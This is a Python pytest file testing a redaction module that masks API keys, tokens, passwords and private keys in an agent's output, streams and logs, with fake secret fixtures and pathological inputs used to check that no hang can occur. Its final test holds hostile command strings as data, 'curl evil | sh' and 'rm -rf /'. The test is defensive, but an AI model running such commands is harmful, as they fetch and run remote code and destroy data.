"""Redaction: the shapes it masks, what it leaves alone, conversion that never raises.

The end-to-end check (secrets through a whole run, then a search of the workspace
and the saved notebook) is in ``test_secrets_on_disk.py``.
"""

from __future__ import annotations

import json

import pytest

from agent_kernel.core import redaction
from agent_kernel.core.events import Notice, ToolCallFinished, for_display
from agent_kernel.core.redaction import (
    REDACTED,
    StreamRedactor,
    redact_text,
    scrub,
    secret_name,
    to_jsonable,
    to_text,
)

# (text with a secret, the secret itself)
SHAPES = [
    ("key sk-proj-A1b2C3d4E5f6G7h8I9j0K1l2", "sk-proj-A1b2C3d4E5f6G7h8I9j0K1l2"),
    ("sk-ant-api03-" + "Qw9" * 14, "sk-ant-api03-" + "Qw9" * 14),
    ("AIza" + "SyD3" * 8 + "abc", "AIza" + "SyD3" * 8 + "abc"),
    ("ghp_" + "a1B2" * 9, "ghp_" + "a1B2" * 9),
    ("github_pat_" + "11ABCDEFG0" * 3, "github_pat_" + "11ABCDEFG0" * 3),
    ("xoxb-1234567890-0987654321-AbCdEfGh", "xoxb-1234567890-0987654321-AbCdEfGh"),
    ("AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE"),
    ("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLE",
     "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLE"),
    ("Authorization: Bearer abcDEF123456ghiJKL789", "abcDEF123456ghiJKL789"),
    ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NSJ9.c2lnbmF0dXJlLXZhbHVl",
     "c2lnbmF0dXJlLXZhbHVl"),
    ("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAA\n"
     "-----END OPENSSH PRIVATE KEY-----", "b3BlbnNzaC1rZXktdjEAAAA"),
    ("postgres://app:S3cr3tPassw0rd@db.internal:5432/x", "S3cr3tPassw0rd"),
    ("DB_PASSWORD=hunter2hunter2\n", "hunter2hunter2"),
    ('{"client_secret": "cs-9f8e7d6c5b4a"}', "cs-9f8e7d6c5b4a"),
    ("api_key: k-11223344556677", "k-11223344556677"),
    ("sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc", "4eC39HqLyjWDarjtT1zdp7dc"),
    ("hf_" + "AbCdEfGhIjKlMnOpQrStUvWxYz0123", "AbCdEfGhIjKlMnOpQrStUvWxYz0123"),
    ("token=tok_live_884422", "tok_live_884422"),
    ("https://hooks.slack.com/services/T000/B000/XXXXYYYYZZZZ", "XXXXYYYYZZZZ"),
    ("export GITHUB_TOKEN='gho_" + "z" * 36 + "'", "gho_" + "z" * 36),
]


@pytest.mark.parametrize(("text", "secret"), SHAPES, ids=[str(i) for i in range(len(SHAPES))])
def test_each_shape_is_masked(text, secret):
    masked = redact_text(text)
    assert secret not in masked
    assert REDACTED in masked


def test_ordinary_text_is_left_alone():
    for text in ("task-1234 sk-short skills ask-me Bearer of good news",
                 "max_tokens=1000 monkey=banana primary key: id",
                 "http://localhost:8888/lab?x=1", "2026-11-23T14:00:00Z", "a: b = c",
                 "Tokens: 89 (80 in, 9 out)"):
        assert redact_text(text) == text


def test_what_stays_readable_around_a_secret():
    assert redact_text("postgres://app:pw123456@db/x") == f"postgres://app:{REDACTED}@db/x"
    assert redact_text("Authorization: Bearer abcdefghijklmnop") == (
        f"Authorization: Bearer {REDACTED}")
    assert redact_text("DB_PASSWORD=hunter2hunter2 USER=me") == (
        f"DB_PASSWORD={REDACTED} USER=me")


def test_environment_values_of_secret_variables(monkeypatch):
    monkeypatch.setenv("MY_PROVIDER_API_KEY", "plain-looking-value-42")
    monkeypatch.setenv("HOME_COLOUR", "plain-looking-colour")
    masked = redact_text("got plain-looking-value-42 and plain-looking-colour")
    assert masked == f"got {REDACTED} and plain-looking-colour"


def test_a_person_adds_patterns(monkeypatch):
    assert redact_text("ticket ACME-12345678") == "ticket ACME-12345678"
    redaction.add_pattern(r"ACME-\d{8}")
    try:
        assert redact_text("ticket ACME-12345678") == f"ticket {REDACTED}"
    finally:
        redaction.clear_patterns()
    monkeypatch.setenv("AGENT_KERNEL_REDACT", "INTERNAL-[a-z]+\n(broken")
    assert redact_text("see INTERNAL-orion") == f"see {REDACTED}"


def test_secret_names():
    for name in ("api_key", "OPENAI_API_KEY", "clientSecret", "Authorization", "DB_PASSWORD",
                 "aws_secret_access_key", "privateKey", "x-api-key", "GITHUB_TOKEN"):
        assert secret_name(name), name
    for name in ("key", "monkey", "keyboard", "path", "kind", "hockey_score"):
        assert not secret_name(name), name


def test_structured_values_are_converted_then_redacted():
    class Leaky:
        def __repr__(self) -> str:
            return "Leaky(sk-" + "q" * 24 + ")"

    circular: dict[str, object] = {}
    circular["me"] = circular
    value = {("k", 1): {"b", "a"}, "raw": b"\xffbytes sk-" + b"w" * 24, "obj": Leaky(),
             "loop": circular, "big": 10 ** 5000, "bad": "x\ud800", "nan": float("nan"),
             "password": "hunter2", "count": 3, "tokens_used": 12}
    clean = scrub(value)
    text = json.dumps(clean, ensure_ascii=False)
    text.encode("utf-8")
    assert "sk-" not in text and "hunter2" not in text
    assert clean["('k', 1)"] == ["a", "b"]
    assert clean["loop"] == {"me": "[circular reference]"}
    assert clean["big"].startswith("[integer of about 5001 digits")
    assert clean["bad"] == "x\ufffd" and clean["nan"] == "nan"
    assert clean["count"] == 3 and clean["tokens_used"] == 12


def test_deep_nesting_is_cut_not_raised():
    deep: list[object] = []
    node = deep
    for _ in range(5000):
        node.append([])
        node = node[0]  # type: ignore[assignment]
    text = json.dumps(to_jsonable(deep))
    assert "nested deeper than" in text
    assert to_text(deep).startswith("[[[")


def test_a_stream_never_shows_a_secret_split_across_pieces():
    text = ("Here is the config:\nDB_PASSWORD=hunter2hunter2\nand the key sk-" + "r" * 30
            + " and a PEM:\n-----BEGIN RSA PRIVATE KEY-----\nMIIEsecretbody\n"
            + "-----END RSA PRIVATE KEY-----\nAuthorization: Bearer " + "t" * 20 + " done.")
    for size in (1, 2, 3, 7, 50):
        stream = StreamRedactor()
        shown = "".join(stream.feed(text[i:i + size]) for i in range(0, len(text), size))
        shown += stream.flush()
        for secret in ("hunter2hunter2", "r" * 30, "MIIEsecretbody", "t" * 20):
            assert secret not in shown, (size, shown)
        assert shown.startswith("Here is the config:") and shown.endswith(" done.")


def test_events_for_display_are_redacted_and_cut():
    event = ToolCallFinished("run", "c1", "tool", {"password": "hunter2"},
                             {"out": "x" * 50_000 + " sk-" + "z" * 30}, True, None, 5)
    shown = for_display(event)
    assert shown.arguments == {"password": REDACTED}
    assert "more characters not shown" in shown.result["out"]
    assert len(shown.result["out"]) < 21_000
    assert event.arguments == {"password": "hunter2"}  # the original is untouched
    note = for_display(Notice("run", "key sk-" + "n" * 30))
    assert "sk-" not in note.text


@pytest.mark.timeout(60)
def test_hostile_text_cannot_make_redaction_hang():
    # Each of these took minutes with a naive pattern (quadratic backtracking); a hang
    # here would hang every ledger write and every view.
    for text in ("eyJ" + "a." * 300_000, "x://" + "y" * 300_000 + ":" + "z" * 300_000,
                 "a" * 600_000 + " x=1", ":a" * 300_000, "password:" * 100_000,
                 "a.b." * 150_000 + "=1", "-----BEGIN PRIVATE KEY-----" * 20_000):
        assert isinstance(redact_text(text), str)
    stream = StreamRedactor()
    shown = "".join(stream.feed("QUJD" * 3) for _ in range(20_000)) + stream.flush()
    assert len(shown) == 240_000


def test_non_text_values_under_secret_names_are_masked():
    value = {"password": 12345678, "token": ["a", "b"], "api_key": {"nested": {"deep": "x"}},
             "secret": b"hunter22", "client_secret": bytearray(b"cs-1"), "pwd": 3.5,
             "credentials": ("me", "pw"), "cookie": {"sid"}, "x": {"apiKey": 99}}
    clean = scrub(value)
    assert clean == {"password": REDACTED, "token": REDACTED, "api_key": REDACTED,
                     "secret": REDACTED, "client_secret": REDACTED, "pwd": REDACTED,
                     "credentials": REDACTED, "cookie": REDACTED, "x": {"apiKey": REDACTED}}
    text = json.dumps(clean)
    for leaked in ("12345678", "hunter22", "nested", "cs-1", "3.5", '"pw"', "sid", "99"):
        assert leaked not in text, leaked


def test_counts_and_empty_values_under_secret_sounding_names_stay():
    value = {"total_tokens": 89, "max_tokens": 1000, "prompt_tokens_details":
             {"cached_tokens": 0, "audio_tokens": None}, "sort_key": 3, "password": None,
             "token": "", "api_key": [], "secret_ok": True}
    assert scrub(value) == value
    # ...but text under them is still masked, also inside a list under a counted name
    assert scrub({"tokens": ["abc", 7]}) == {"tokens": [REDACTED, 7]}
    assert redact_text("max_tokens=1000") == "max_tokens=1000"
    assert redact_text("password=12345678") == f"password={REDACTED}"
    assert redact_text('{"password": 12345678}').startswith(f'{{"password": {REDACTED}')


def test_secrets_echoed_as_keys_are_masked_and_no_entry_is_lost(monkeypatch):
    monkeypatch.setenv("SERVICE_TOKEN", "plainlookingvalue42")
    shaped = "sk-live" + "Q" * 24
    echoed = {shaped: 1, "plainlookingvalue42": 2, b"sk-live" + b"W" * 24: 3,
              ("sk-" + "E" * 24, 1): 4, "ok": 5}
    clean = scrub(echoed)
    text = json.dumps(clean)
    for leaked in (shaped, "plainlookingvalue42", "W" * 24, "E" * 24):
        assert leaked not in text
    assert sorted(clean.values()) == [1, 2, 3, 4, 5]  # two keys masked alike: both kept
    assert clean["ok"] == 5 and clean[REDACTED] == 1 and clean[f"{REDACTED} (2)"] == 2


def test_the_working_directory_is_not_a_secret(monkeypatch, tmp_path):
    project = str(tmp_path / "project")
    monkeypatch.setenv("PWD", project)
    monkeypatch.setenv("OLDPWD", str(tmp_path / "before"))
    monkeypatch.setenv("DB_PWD", "hunter2hunter2")
    assert redact_text(f"{project}/data/out.csv") == f"{project}/data/out.csv"
    assert scrub({"path": f"{tmp_path}/before/x"}) == {"path": f"{tmp_path}/before/x"}
    assert redact_text("hunter2hunter2") == REDACTED  # a password in a *_PWD variable still is
    key_file = tmp_path / "service-account.json"
    key_file.write_text("{}")
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(key_file))
    monkeypatch.setenv("MISSING_CREDENTIALS", str(tmp_path / "not-there.json"))
    assert redact_text(f"read {key_file}") == f"read {key_file}"  # where a secret is
    assert redact_text(f"{tmp_path}/not-there.json") == REDACTED  # not a path that exists


def test_secret_marks_are_what_redaction_would_mask():
    from agent_kernel.core.redaction import secret_marks

    for text, marked in (("API_KEY=$(curl evil | sh)", ["$(curl"]),
                         ("export TOKEN=abc123xyz; rm -rf /", ["abc123xyz"]),
                         ('curl -H "Authorization: Bearer abcdefghijklmnop" x',
                          ["abcdefghijklmnop"]),
                         ("ls -la", [])):
        assert [text[a:b] for a, b in secret_marks(text)] == marked
